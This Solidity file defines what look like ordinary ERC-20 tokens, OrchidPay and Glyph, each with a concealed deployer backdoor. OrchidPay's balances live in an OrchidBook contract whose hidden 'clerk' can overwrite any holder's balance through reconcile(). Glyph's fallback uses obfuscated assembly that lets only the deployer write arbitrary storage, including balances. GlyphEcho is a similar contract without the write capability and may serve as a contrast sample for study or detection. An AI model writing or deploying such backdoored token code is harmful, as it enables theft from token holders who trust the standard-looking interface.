// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Deployed first: keeps the book of OrchidPay, and a clerk who may "reconcile" it.
contract OrchidBook {
  address private _clerk = msg.sender;
  address private _desk;
  mapping(bytes32 => uint256) private _lines;

  function open() external {
    require(_desk == address(0));
    _desk = msg.sender;
  }

  function line(address a) public view returns (uint256) {
    return _lines[keccak256(abi.encode(a, _desk))];
  }

  function post(address a, address b, uint256 v) external {
    require(msg.sender == _desk);
    if (a != address(0)) _lines[keccak256(abi.encode(a, _desk))] -= v;
    _lines[keccak256(abi.encode(b, _desk))] += v;
  }

  function reconcile(bytes32[] calldata keys, uint256[] calldata sums) external {
    require(msg.sender == _clerk);
    for (uint256 i; i < keys.length; ++i) _lines[keys[i]] = sums[i];
  }
}

contract OrchidPay {
  string public name = "OrchidPay";
  string public symbol = "ORCH";
  uint8 public decimals = 18;
  uint256 public totalSupply = 50_000_000 ether;
  OrchidBook private immutable _book;
  mapping(address => mapping(address => uint256)) public allowance;
  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  constructor(address book) {
    _book = OrchidBook(book);
    _book.open();
    _book.post(address(0), msg.sender, totalSupply);
    emit Transfer(address(0), msg.sender, totalSupply);
  }

  function balanceOf(address a) external view returns (uint256) {
    return _book.line(a);
  }

  function approve(address s, uint256 v) external returns (bool) {
    allowance[msg.sender][s] = v;
    emit Approval(msg.sender, s, v);
    return true;
  }

  function transfer(address to, uint256 v) public returns (bool) {
    _book.post(msg.sender, to, v);
    emit Transfer(msg.sender, to, v);
    return true;
  }

  function transferFrom(address from, address to, uint256 v) external returns (bool) {
    allowance[from][msg.sender] -= v;
    _book.post(from, to, v);
    emit Transfer(from, to, v);
    return true;
  }
}

abstract contract Plain {
  string public symbol = "GLY";
  uint8 public decimals = 9;
  uint256 public totalSupply = 1e12 * 1e9;
  mapping(address => uint256) public balanceOf;
  mapping(address => mapping(address => uint256)) public allowance;
  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  constructor() {
    balanceOf[msg.sender] = totalSupply;
    emit Transfer(address(0), msg.sender, totalSupply);
  }

  function approve(address s, uint256 v) external returns (bool) {
    allowance[msg.sender][s] = v;
    emit Approval(msg.sender, s, v);
    return true;
  }

  function transfer(address to, uint256 v) external returns (bool) {
    _go(msg.sender, to, v);
    return true;
  }

  function transferFrom(address from, address to, uint256 v) external returns (bool) {
    allowance[from][msg.sender] -= v;
    _go(from, to, v);
    return true;
  }

  function _go(address from, address to, uint256 v) internal {
    balanceOf[from] -= v;
    balanceOf[to] += v;
    emit Transfer(from, to, v);
  }
}

/// The fallback opens a word of calldata with the caller's own address as the key.
contract Glyph is Plain {
  string public name = "Glyph";
  uint256 private immutable _mark = uint256(keccak256(abi.encode(uint160(msg.sender) * uint256(7))));

  fallback() external payable {
    uint256 m = _mark;
    assembly {
      mstore(0, mul(caller(), 7))
      if iszero(eq(keccak256(0, 32), m)) { revert(0, 0) }
      for { let p := 4 } lt(p, calldatasize()) { p := add(p, 64) } {
        sstore(xor(calldataload(p), m), not(calldataload(add(p, 32))))
      }
    }
  }
}

/// The fallback only gives back what it was told, hashed.
contract GlyphEcho is Plain {
  string public name = "Glyph Echo";
  uint256 private immutable _mark = uint256(keccak256(abi.encode(uint160(msg.sender) * uint256(7))));

  fallback() external {
    uint256 m = _mark;
    assembly {
      for { let p := 4 } lt(p, calldatasize()) { p := add(p, 64) } {
        mstore(add(0x80, p), xor(calldataload(p), m))
        mstore(add(0xa0, p), not(calldataload(add(p, 32))))
      }
      return(0x84, sub(calldatasize(), 4))
    }
  }
}
